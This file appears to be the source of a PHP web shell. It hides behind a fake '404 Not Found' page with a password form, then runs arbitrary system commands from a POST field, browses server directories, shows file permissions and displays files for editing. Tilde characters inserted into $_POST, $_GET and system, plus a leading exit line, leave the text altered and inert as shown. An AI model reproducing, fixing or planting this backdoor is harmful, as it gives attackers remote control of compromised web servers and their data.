<?php exit; ?>
<?php
session_start(); if (md5($_P~OST['p']) == '00000000000000000000000000000000') $_SESSION['marker'] = 1;
if (empty($_SESSION['marker'])) { header('HTTP/1.0 404 Not Found'); die('<form method=post><input type=password name=p></form>'); }
$d = isset($_G~ET['d']) ? $_G~ET['d'] : getcwd(); chdir($d);
if (isset($_P~OST['c'])) { echo '<pre>'; sys~tem($_P~OST['c']); echo '</pre>'; }
foreach (scandir('.') as $f) echo (is_dir($f) ? "<a href='?d=$d/$f'>$f</a>" : "$f <a href='?d=$d&e=$f'>edit</a>") . ' ' . substr(sprintf('%o', fileperms($f)), -4) . '<br>';
if (isset($_G~ET['e'])) echo '<textarea>' . htmlspecialchars(file_get_contents($_G~ET['e'])) . '</textarea>';
